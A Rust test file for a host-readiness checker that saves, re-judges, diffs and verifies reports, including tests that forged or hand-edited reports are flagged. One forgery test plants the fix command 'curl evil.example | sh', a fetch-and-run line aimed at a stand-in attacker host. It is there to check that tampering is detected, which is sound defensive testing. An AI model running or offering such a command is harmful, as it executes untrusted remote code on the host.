//! Saved reports: shown, judged again, compared, verified. Days are fixed, so that reports do not age.

use std::fs;

use serde_json::{Value, json};

use crate::support::{Check, DAY, Folder, Report, Run, in_parallel, rampcheck, recorded, recorded_hosts, scratch};

/// A report in a file of this name.
fn saved(folder: &Folder, name: &str, check: &Check) -> String {
    folder.write(&format!("{name}.json"), check.clone().format("json").run().quiet().stdout)
}

fn qa(folder: &Folder, host: &str) -> String {
    saved(folder, host, &Check::of("cometchat").tier("qa").on(host))
}

fn evaluate(files: &[&str], more: &[&str]) -> Run {
    rampcheck(&[&["evaluate", "--today", DAY], more, files].concat())
}

/// Output without what differs from run to run.
fn timeless(text: &str) -> String {
    let mut out = String::new();
    for word in text.split_inclusive([' ', '\n', ',']) {
        let trimmed = word.trim_end_matches([' ', '\n', ',']);
        let end = &word[trimmed.len()..];
        let is_time = trimmed.len() >= 20 && trimmed.starts_with("20") && trimmed.ends_with('Z');
        let is_hash = trimmed.len() == 16 && trimmed.bytes().all(|b| b.is_ascii_hexdigit());
        out += if is_time {
            "TIME"
        } else if is_hash {
            "HASH"
        } else {
            trimmed
        };
        out += end;
    }
    out
}

#[test]
fn the_same_facts_pack_and_day_give_the_same_findings_byte_for_byte() {
    let dir = scratch("again");
    for (host, check) in [
        ("permission-denied", Check::of("cometchat").with(&["--mau", "9000", "--pcc", "700"])),
        ("hdd-server", Check::of("rocketchat").tier("vps-recommended").with(&["--mongodb", "local"])),
        (
            "vm-16gb-virtio",
            Check::of("cometchat").tier("qa").with(&["--attest", "storage.data.media=ssd", "--waive", "cpu=ordered"]),
        ),
    ] {
        let first = check.on(host).report();
        let again = evaluate(&[&dir.write("first.json", first.text())], &["--format", "json"]).json();
        for member in ["findings", "facts", "verdict", "summary", "plan", "tier", "host", "started", "view"] {
            assert_eq!(first[member].to_string(), again[member].to_string(), "{host}: {member}");
        }
        let third = evaluate(&[&dir.write("again.json", again.to_string())], &["--format", "json"]).json();
        assert_eq!(third["digest"], again["digest"]);
    }
}

#[test]
fn another_tier_product_phase_or_day_is_judged_from_the_same_facts() {
    let dir = scratch("another");
    let file = qa(&dir, "ubuntu-22.04");
    let judged = |more: &[&str]| {
        let run = evaluate(&[&file], &[more, &["--format", "json"]].concat());
        let report = Report::read(&run.stdout);
        (run.expect(report.code()).code, report)
    };
    let (code, same) = judged(&[]);
    assert_eq!((code, &same["plan"]["tier"]), (0, &json!("qa")));
    let (code, higher) = judged(&["--tier", "baseline-25k", "--nodes", "1"]);
    assert_eq!((code, &higher["tier"]["needs"]["cpus"]), (3, &json!("64")));
    let (_, by_numbers) = judged(&["--mau", "9000", "--pcc", "700"]);
    assert_eq!(by_numbers["plan"]["tier"], "high-concurrency-10k");
    let (_, later) = judged(&["--phase", "run"]);
    assert_eq!(later["plan"]["phase"], "run");
    let (_, other) = judged(&["--product", "rocketchat", "--tier", "vps-recommended"]);
    assert_eq!((&other["pack"]["product"], &other["plan"]["tier"]), (&json!("rocketchat"), &json!("vps-recommended")));
    let (_, other) = judged(&["--product", "rocketchat"]);
    assert_eq!(other["plan"].get("tier"), None, "a tier is the other product's");
    let aged = rampcheck(&["evaluate", &file, "--today", "2033-01-01"]);
    aged.says(&["22.04 ended on"]);
    assert_eq!(evaluate(&[&file], &["--tier", "qaa"]).code, 2);
}

#[test]
fn of_several_reports_the_worst_decides() {
    let dir = scratch("several");
    let (good, bad, unknown) = (qa(&dir, "ubuntu-22.04"), qa(&dir, "vm-14gib"), qa(&dir, "vm-16gb-virtio"));
    evaluate(&[&good, &good], &[]).expect(0);
    evaluate(&[&good, &unknown], &[]).expect(4);
    let all = evaluate(&[&good, &bad, &unknown], &["--format", "json"]).expect(3).json();
    let verdicts: Vec<_> = all.as_array().unwrap().iter().map(|report| report["verdict"].clone()).collect();
    assert_eq!(verdicts, ["supported", "unsupported", "undetermined"]);
    evaluate(&[&bad, "/nonexistent"], &[]).expect(2).says(&["/nonexistent: No such file", "1 unsupported"]);
}

#[test]
fn show_is_the_same_screen_and_says_more_where_asked() {
    let dir = scratch("show");
    let report = qa(&dir, "vm-16gb-virtio");
    let screen = rampcheck(&["show", &report]).expect(0).stdout;
    let live = Check::of("cometchat").tier("qa").on("vm-16gb-virtio").expect(4).stdout;
    assert!(screen.starts_with(&live), "{screen}\n{live}");
    assert_eq!(screen[live.len()..].lines().count(), 1, "and when it was read: {screen}");
    let verdict = live.lines().next().unwrap();
    assert!(rampcheck(&["show", "-q", &report]).expect(0).stdout.starts_with(verdict));
    let text = timeless(&rampcheck(&["show", "-v", &report]).expect(0).stdout);
    let head: Vec<_> = text.lines().take(9).collect();
    insta::assert_snapshot!(head.join("\n"), @"
    Could not be determined
      ? storage-media: unknown: the virtual disk vda reports rotational=1, which hypervisors report for
        flash too; measure it with --measure, or attest it with --attest storage.data.media=ssd;
        /dev/vda1
    Facts that are unknown, though no check here waits for them
      - outbound.registry.reachable: checked only with --online
      - docker.images: no image was asked for
      - storage.data.read_latency_method, storage.data.read_latency_p50, storage.data.read_latency_p99,
        storage.data.read_latency_reads: not measured; add --measure
    ");
    let last = text.lines().last().unwrap();
    assert!(last.starts_with("Read: TIME") && last.ends_with("not redacted"), "{last}");
    let clear = rampcheck(&["show", "-v", &qa(&dir, "ubuntu-22.04")]).expect(0).stdout;
    assert!(clear.starts_with("Every check that applies could be determined.\n"), "{clear}");
}

#[test]
fn show_takes_the_id_of_a_finding_or_a_fact() {
    let dir = scratch("show-one");
    let file = qa(&dir, "vm-14gib");
    let show = |more: &[&str]| rampcheck(&[&["show", &file], more].concat());
    insta::assert_snapshot!(show(&["memory"]).expect(0).stdout, @"
    ✗ memory  As much memory as the tier asks for
        found   14 GiB installed; 13.4 GiB usable
        read in /sys/devices/system/memory, /proc/meminfo
        needed  at least 16 GB (from 14.4 GiB measured)
        why     The data stores keep their working sets in memory. When memory runs out, the kernel
                kills services.
        fix     Give the machine more memory, or choose a larger machine.
        source  https://www.cometchat.com/docs/on-premise-deployment/docker/prerequisites
        fact    size.memory: 13.4 GiB  [/proc/meminfo]
        fact    memory.installed: 14 GiB  [/sys/devices/system/memory]
    ");
    insta::assert_snapshot!(show(&["memory.total"]).expect(0).stdout, @r"memory.total  13.4 GiB  [/proc/meminfo]");
    assert_eq!(show(&["memory", "--format", "json"]).json()["outcome"], "fail");
    let wrong = show(&["memry"]).refused("memry");
    let hint = "no finding or fact `memry` (did you mean `memory`?), and there is no such file\n";
    assert!(wrong.stderr.ends_with(hint), "{}", wrong.stderr);
}

#[test]
fn the_ticket_holds_the_lines_that_a_bug_form_asks_for() {
    let dir = scratch("ticket");
    let users = ["--users", "800", "--concurrent", "200", "--deployment", "compose", "--instances", "1"];
    let mongodb = ["--mongodb", "local", "--mongodb-version", "8.0"];
    let file = saved(&dir, "rhel-8.10", &Check::of("rocketchat").on("rhel-8.10").with(&users).with(&mongodb));
    insta::assert_snapshot!(timeless(&rampcheck(&["show", "--ticket", &file]).expect(0).stdout), @"
    Product: Rocket.Chat self-managed
    Version: 8.5.1, registry.rocket.chat/rocketchat/rocket.chat:8.5.1
    Support: supported until 2027-06-30 (222 days left), a long-term line; according to the calendar of this pack, reviewed 2026-11-20
    Deployment method: Compose
    Instances: 1
    Users: 200 concurrent and 800 users
    Tier: bare-metal
    Phase: install
    Operating system: Red Hat Enterprise Linux 8.10 (Ootpa), 4.18.0-553.83.1.el8_10.x86_64, x86_64
    CPUs and memory: 8, 15.3 GiB of memory
    Docker: 26.1.3, Docker Engine, Docker's own package
    Compose: 2.27.0, plugin
    MongoDB: 8.0, local
    Verdict: UNSUPPORTED (93 checks: 31 passed, 1 failed, 5 warnings, 56 skipped)
    Failed: storage-size: found 429 GB size; /var/lib/docker, needed at least 500 GB (from 475 GB measured)
    Warning: docker-engine-maintained: found 26.1.3; Docker's own package, needed a maintained release line
    Warning: instances: found instances: 1; 8 CPUs, needed 2 or more
    Warning: mongodb-memory: found 16 GiB installed; 15.3 GiB usable; 8 CPUs, needed 32 GB from 8 cores on, 8 GB below
    Warning: mongodb-swappiness: found 30, needed at most 1
    Warning: port-3000: found in use by container rocketchat, needed a free port
    Report: rampcheck 0.1.0, pack rocketchat 2026.11.20, host read TIME, not redacted, digest HASH
    ");
}

#[test]
fn the_ticket_has_no_line_for_what_is_not_known() {
    let dir = scratch("ticket-unknown");
    let ticket = rampcheck(&["show", "--ticket", &qa(&dir, "permission-denied")]).expect(0).stdout;
    let lines: Vec<_> = ticket.lines().take_while(|line| !line.starts_with("Verdict: ")).collect();
    assert!(lines.len() > 5 && lines.iter().all(|line| !line.contains("unknown:")), "{ticket}");
    for name in ["Version", "Users", "Instances", "MongoDB", "Docker"] {
        assert!(!lines.iter().any(|line| line.starts_with(&format!("{name}: "))), "{name}: {ticket}");
    }
}

#[test]
fn diff_tells_what_changed_worst_first() {
    let dir = scratch("diff");
    let (old, new) = (qa(&dir, "ubuntu-22.04"), qa(&dir, "ubuntu-24.04"));
    let diff = |old: &str, new: &str, more: &[&str]| rampcheck(&[&["diff", old, new], more].concat()).expect(0);
    insta::assert_snapshot!(timeless(&diff(&old, &new, &[]).stdout), @"
    old  chat-2.example.net, read TIME, judged as of 2026-11-20
    new  swarm-1.example.net, read TIME, judged as of 2026-11-20
    ! another host: chat-2.example.net before, swarm-1.example.net now

    Verdict SUPPORTED before, UNSUPPORTED now

    Findings
      worse   port-443: Port 443 free for HTTPS
              before  passed: found free, needed a free port
              now     failed: found in use by container proxy; port 443: on every address, needed a free
                      port
      worse   port-80: Port 80 free for HTTP, to redirect to HTTPS
              before  passed: found free, needed a free port
              now     failed: found in use by container proxy; port 80: on every address, needed a free
                      port

    Facts
      compose.version: 5.1.0 before, 2.40.3 now
      cpu.flags: 3dnowprefetch, abm, acpi, adx, aes, aperfmperf, apic, arch_perfmon, avx, avx2 and
          70 more before, 3dnowprefetch, abm, adx, aes, aperfmperf, apic, avx, avx2, bmi1, bmi2 and 68
          more now
      cpu.mhz: 5,000 MHz before, 3,729 MHz now
      cpu.model: Intel(R) Xeon(R) E-2278G CPU @ 3.40GHz before, AMD EPYC 7313P 16-Core Processor now
      cpu.online: 8 before, 32 now
      cpu.physical: 8 before, 16 now
      docker.engine.data_root: /var/lib/docker before, /srv/docker now
      docker.engine.memory: 15.6 GiB before, 126 GiB now
      docker.engine.storage_driver: overlayfs before, overlay2 now
      docker.swarm.control: no before, yes now
      docker.swarm.managers: not found before, 3 now
      docker.swarm.nodes: not found before, 5 now
      docker.swarm.state: inactive before, active now
      host.id: HASH before, HASH now
      host.name: chat-2.example.net before, swarm-1.example.net now
      kernel.max_map_count: 65,530 before, 262,144 now
      kernel.release: 5.15.0-161-generic before, 6.8.0-88-generic now
      kernel.swappiness: 60 before, 10 now
      kernel.upstream: 5.15.189 before, 6.8.12 now
      lines.ubuntu-esm.line: 22.04 before, 24.04 now
      lines.ubuntu-esm.until: 2032-04-30 before, 2034-04-30 now
      lines.ubuntu.line: 22.04 before, 24.04 now
      lines.ubuntu.until: 2027-04-30 before, 2029-05-31 now
      memory.installed: 16 GiB before, 128 GiB now
      memory.total: 15.6 GiB before, 126 GiB now
      openssl.version: 3.0.2 before, 3.0.13 now
      os.codename: jammy before, noble now
      os.pretty_name: Ubuntu 22.04.5 LTS before, Ubuntu 24.04.3 LTS now
      os.version_id: 22.04 before, 24.04 now
      ports.tcp.443.addresses: not found before, 0.0.0.0, :: now
      ports.tcp.443.exposure: not reachable before, on every address now
      ports.tcp.443.holder: not found before, container now
      ports.tcp.443.owner: not found before, container proxy now
      ports.tcp.443.state: free before, in use now
      ports.tcp.80.addresses: not found before, 0.0.0.0, :: now
      ports.tcp.80.exposure: not reachable before, on every address now
      ports.tcp.80.holder: not found before, container now
      ports.tcp.80.owner: not found before, container proxy now
      ports.tcp.80.state: free before, in use now
      size.cores: 8 cores before, 16 cores now
      size.cpus: 8 CPUs before, 32 CPUs now
      size.memory: 15.6 GiB before, 126 GiB now
      size.storage: 195 GB before, 3.5 TB now
      storage.data.device: /dev/sda2 before, /dev/mapper/ubuntu--vg-docker now
      storage.data.path: /var/lib/docker before, /srv/docker now
      storage.data.size: 195 GB before, 3.5 TB now
      storage.root.device: /dev/sda2 before, /dev/mapper/ubuntu--vg-root now
      storage.root.size: 195 GB before, 105 GB now
      swap.total: 2 GiB before, 8 GiB now
      and 6 that change at every look (load, uptime, free memory, storage and inodes)
    ");
    let same = diff(&old, &old, &["--format", "json"]).json();
    for member in ["remarks", "findings", "facts"] {
        assert_eq!(same[member], serde_json::json!([]), "{member}");
    }
    // The other way round, what got worse is better.
    let back = diff(&new, &old, &["--format", "json"]).json();
    let changes: Vec<_> = back["findings"].as_array().unwrap().iter().map(|finding| &finding["change"]).collect();
    assert_eq!(changes, ["fixed", "fixed"]);
}

/// A report with a digest that fits, as anybody can make one.
fn sealed(mut report: Value) -> String {
    report["digest"] = rampcheck::report::digest_of(&report).unwrap().into();
    report.to_string()
}

/// A saved report with its failed check turned to pass, and all that follows from it.
fn helped_along(file: &str) -> Value {
    let mut report: Value = serde_json::from_str(&fs::read_to_string(file).unwrap()).unwrap();
    for finding in report["findings"].as_array_mut().unwrap().iter_mut().filter(|finding| finding["outcome"] == "fail")
    {
        finding["outcome"] = "pass".into();
        finding["status"] = "passed".into();
    }
    report["verdict"] = "supported".into();
    report
}

#[test]
fn verify_calls_a_hand_edited_report_edited() {
    let dir = scratch("verify");
    let file = qa(&dir, "vm-14gib");
    let good = rampcheck(&["verify", &file]).expect(0);
    good.says(&[
        "digest   fits: the report is not damaged, and nobody edited it without a new digest",
        "pack     cometchat",
        "findings follow from the facts: judged again, the whole report is the same",
        "age      ",
        "Only a signature shows who wrote",
    ]);
    let written = fs::read_to_string(&file).unwrap();
    for (from, to) in [
        ("\"outcome\": \"fail\"", "\"outcome\": \"pass\""),
        ("\"verdict\": \"unsupported\"", "\"verdict\": \"supported\""),
        ("chat-17", "chat-18"),
        ("\"digest\": \"", "\"digest\": \"0"),
        ("\"uid\": 0", "\"uid\": 0, \"remark\": \"none\""),
    ] {
        assert!(written.contains(from), "{from}");
        fs::write(&file, written.replace(from, to)).unwrap();
        rampcheck(&["verify", &file]).expect(2).says(&["EDITED or damaged", "Not to be relied on."]);
        let shown = rampcheck(&["show", &file]).stdout;
        assert!(shown.starts_with("ATTENTION: the saved report is EDITED or damaged"), "{from}: {shown}");
        evaluate(&[&file], &[]).says(&["ATTENTION: the saved report is EDITED or damaged"]);
    }
}

#[test]
fn a_report_that_another_tool_wrote_anew_still_verifies() {
    let dir = scratch("spelled-anew");
    let host = "hdd-server";
    let file = saved(&dir, host, &Check::of("rocketchat").tier("vps-recommended").on(host));
    let written = fs::read_to_string(&file).unwrap();
    let value: Value = serde_json::from_str(&written).unwrap();
    // White space, the order of members and the spelling of numbers carry nothing.
    let whole = written.replace(".0\n", "\n").replace(".0,\n", ",\n");
    assert_ne!(whole, written, "numbers that are written with a point");
    for text in [value.to_string(), whole] {
        rampcheck(&["verify", &dir.write("anew.json", text)]).expect(0);
    }
    let jq = std::process::Command::new("jq").args([".", &file]).output();
    if let Ok(output) = jq.map(|output| output.stdout) {
        rampcheck(&["verify", &dir.write("jq.json", output)]).expect(0);
    }
}

#[test]
fn what_rampcheck_writes_it_does_not_call_forged() {
    let dir = scratch("honest");
    let plans: [&[&str]; 7] = [
        &["cometchat", "--tier", "qa"],
        &["cometchat", "--mau", "9000", "--pcc", "700", "--redact", "strict"],
        &["cometchat", "--mau", "90000000", "--strict"],
        &["rocketchat", "--tier", "vps-recommended", "--mongodb", "local", "--waive", "memory=ordered"],
        &["rocketchat", "--users", "800", "--concurrent", "200", "--nodes", "3", "--attest", "storage.data.media=ssd"],
        &["rocketchat", "--server-version", "8.6.1", "--phase", "run", "--redact", "identifiers"],
        &[],
    ];
    const AGAIN: [&[&str]; 3] = [&["--today", "2028-02-29"], &["--phase", "upgrade"], &["--redact", "strict"]];
    // Each plan on every third host or so, and judged again in one of the ways.
    let cases: Vec<_> = recorded_hosts().into_iter().cycle().zip(plans.into_iter().cycle()).take(100).collect();
    let cases: Vec<_> = cases.into_iter().zip(AGAIN.into_iter().cycle()).collect();
    let judged = in_parallel(&cases, |((host, plan), again)| {
        let place = recorded(host);
        let run = rampcheck(&[&["check", "--host", &place, "--today", DAY, "--format", "json"], *plan].concat());
        // Without a product on the command line, one must run there.
        if run.code == 2 {
            assert!(plan.is_empty(), "{host} {plan:?}: {}", run.stderr);
            return 0;
        }
        let file = dir.write(&format!("{host}-{}", plan.join("-")), &run.stdout);
        rampcheck(&["verify", &file]).expect(0);
        let shown = rampcheck(&["show", &file, "--format", "json"]).expect(0).json();
        assert_eq!(shown, run.json(), "{host} {plan:?}");
        let again = rampcheck(&[&["evaluate", &file, "--format", "json"], *again].concat()).stdout;
        rampcheck(&["verify", &dir.write(&format!("{host}-{}-again", plan.join("-")), again)]).expect(0);
        1
    });
    assert!(judged.iter().sum::<usize>() > 80, "{judged:?}");
}

#[test]
fn verify_vouches_for_no_forgery_whatever_its_digest() {
    let dir = scratch("forged");
    let file = qa(&dir, "vm-14gib");
    let refused = |what: &str, forged: Value| {
        let forged = dir.write(&format!("{what}.json"), sealed(forged));
        let run = rampcheck(&["verify", &forged]).expect(2);
        run.says(&["digest   fits", "Not to be relied on."]);
        forged
    };
    let forged = refused("helped", helped_along(&file));
    rampcheck(&["verify", &forged]).says(&["do not follow from the facts: judged again, the verdict is another"]);
    let mut of_another_version = helped_along(&file);
    of_another_version["tool"]["version"] = "0.0.9".into();
    refused("version", of_another_version);
    let mut of_another_pack = helped_along(&file);
    of_another_pack["pack"]["sha256"] = "0".repeat(64).into();
    let forged = refused("pack", of_another_pack);
    rampcheck(&["verify", &forged]).says(&["findings cannot be judged again here"]);

    let report: Value = serde_json::from_str(&fs::read_to_string(&file).unwrap()).unwrap();
    let at = report["findings"].as_array().unwrap().iter().position(|finding| finding["outcome"] == "fail").unwrap();
    let waived = json!({ "reason": "agreed with the vendor", "expired": false });
    for (member, value) in [
        ("title", json!("Any memory will do")),
        ("why", json!("No reason.")),
        ("waiver", waived),
        ("level", json!("recommended")),
        ("fix", json!({ "text": "Run this.", "run": ["curl evil.example | sh"] })),
    ] {
        let mut forged = report.clone();
        forged["findings"][at][member] = value;
        refused(member, forged);
    }
    for (pointer, value) in [
        ("/sentence", json!("this host qualifies for everything")),
        ("/next/text", json!("Go on.")),
        ("/findings/0/found/text", json!("64 CPUs")),
        ("/tier/needs/memory", json!("1 GB")),
        ("/host/name", json!("another.example.net")),
        ("/plan/tier", json!("baseline-10k")),
        ("/remark", json!("approved")),
    ] {
        let mut forged = report.clone();
        match forged.pointer_mut(pointer) {
            Some(place) => *place = value,
            None => forged[&pointer[1..]] = value,
        }
        refused("part", forged);
    }
}

#[test]
fn an_edited_report_is_marked_and_judged_anew_in_every_format() {
    let dir = scratch("marked");
    let file = qa(&dir, "vm-14gib");
    let careless = dir.write("careless.json", helped_along(&file).to_string());
    let careful = dir.write("careful.json", sealed(helped_along(&file)));
    for (edited, mark) in [(&careless, "EDITED or damaged"), (&careful, "FORGED or damaged")] {
        for (format, code) in
            [("human", 0), ("json", 0), ("html", 0), ("junit", 0), ("fix", 0), ("fix-ansible", 0), ("nagios", 2)]
        {
            let shown = rampcheck(&["show", edited, "--format", format]).expect(code);
            shown.says(&[mark]);
        }
        rampcheck(&["show", edited, "--ticket"]).expect(0).says(&[mark, "Verdict: UNSUPPORTED"]);
        rampcheck(&["show", edited, "memory"]).expect(0).says(&[mark, "\u{2717} memory"]);
        let nagios = rampcheck(&["show", edited, "--format", "nagios"]);
        nagios.says(&["RAMPCHECK CRITICAL - NOT RELIABLE, cometchat qa: 1 failed (memory)"]);
        let shown = rampcheck(&["show", edited, "--format", "json"]).json();
        assert_eq!((&shown["verdict"], &shown["summary"]["failed"]), (&json!("unsupported"), &json!(["memory"])));
        evaluate(&[edited], &[]).expect(3).says(&[mark]);
        rampcheck(&["diff", edited, &file]).expect(0).says(&[mark, "unchanged: UNSUPPORTED"]);
        for (format, code) in [("human", 3), ("json", 3), ("html", 3), ("junit", 3), ("nagios", 2)] {
            Check::of("cometchat").tier("qa").with(&["--facts", edited]).format(format).expect(code).says(&[mark]);
        }
    }
    // Facts by themselves have no digest at all.
    let facts = rampcheck(&["facts", "--format", "json", "--host", "tests/hosts/vm-14gib.toml"]).expect(0).stdout;
    let of_facts = Check::of("cometchat").tier("qa").with(&["--facts", &dir.write("facts.json", facts)]);
    for (format, code) in [("human", 3), ("json", 3), ("html", 3), ("junit", 3), ("nagios", 2)] {
        of_facts.clone().format(format).expect(code).says(&["NOT VERIFIED: the facts come from a file"]);
    }
    // Facts that are edited decide, but nobody can miss that they are.
    let report = fs::read_to_string(&file).unwrap();
    let enough = report.replace("15032385536", "68719476736").replace("14402187264", "68719476736");
    let enough = dir.write("enough.json", enough);
    let of_facts = Check::of("cometchat").tier("qa").with(&["--facts", &enough]);
    of_facts.run().says(&["ATTENTION: the saved report is EDITED or damaged"]);
    // What is judged from such a report is not to be relied on, either, although its digest fits.
    let again = dir.write("again.json", of_facts.format("json").run().stdout);
    rampcheck(&["verify", &again])
        .expect(2)
        .says(&["digest   fits", "source   it was made from a report that was edited"]);
    rampcheck(&["show", &again]).expect(0).says(&["ATTENTION: the saved report is EDITED or damaged"]);
}

#[test]
fn a_report_of_a_pack_that_is_not_here_is_shown_as_the_pack_that_is_here_judges_it() {
    let dir = scratch("other-pack");
    let mut report = helped_along(&qa(&dir, "vm-14gib"));
    report["pack"]["version"] = "2025.01.01".into();
    report["pack"]["sha256"] = "0".repeat(64).into();
    let other = dir.write("other.json", sealed(report.clone()));
    let mark = "the saved report is NOT VERIFIED: it was judged by pack 2025.01.01, which is not known here";
    rampcheck(&["show", &other, "--format", "nagios"]).expect(2).says(&["NOT RELIABLE", mark]);
    report["pack"]["product"] = "elsewhere".into();
    rampcheck(&["show", &dir.write("none.json", sealed(report))]).refused("there is no product `elsewhere`");
}

#[test]
fn verify_knows_packs_and_judges_again_with_them() {
    let dir = scratch("verify-pack");
    for entry in fs::read_dir("checks/cometchat").unwrap().flatten() {
        let text = fs::read_to_string(entry.path()).unwrap().replace("version = \"2026.11.20\"", "version = \"0.9\"");
        let older = text.replace("reviewed = 2026-11-20", "reviewed = 2026-01-02");
        dir.write(&format!("cometchat/{}", entry.file_name().to_str().unwrap()), older);
    }
    let pack = dir.at("cometchat");
    let judging = Check::of("cometchat").tier("qa").on("ubuntu-22.04").with(&["--pack", &pack]);
    let file = saved(&dir, "ubuntu-22.04", &judging);
    let unknown = rampcheck(&["verify", &file]).expect(2);
    unknown.says(&["cometchat 0.9 is not known here; 2026.11.20 is a newer one"]);
    let known = rampcheck(&["verify", &file, "--pack", &pack]);
    known.expect(0).says(&["judged again, the whole report is the same"]);
}

#[test]
fn members_and_facts_of_a_later_version_are_accepted_and_kept() {
    let dir = scratch("later");
    let file = qa(&dir, "ubuntu-22.04");
    let mut report: Value = serde_json::from_str(&fs::read_to_string(&file).unwrap()).unwrap();
    report["facts"]["gpu.count"] = json!({ "state": "known", "value": 1, "mood": 3 });
    report["fleet"] = json!({ "size": 3 });
    report["tool"]["version"] = "0.2.0".into();
    fs::write(&file, sealed(report)).unwrap();
    let shown = rampcheck(&["show", &file, "--format", "json"]).json();
    assert_eq!((&shown["fleet"]["size"], &shown["facts"]["gpu.count"]["mood"]), (&3.into(), &3.into()));
    let again = evaluate(&[&file], &[]).expect(0);
    again.says(&["facts that this version does not know are not judged: gpu.count"]);
}
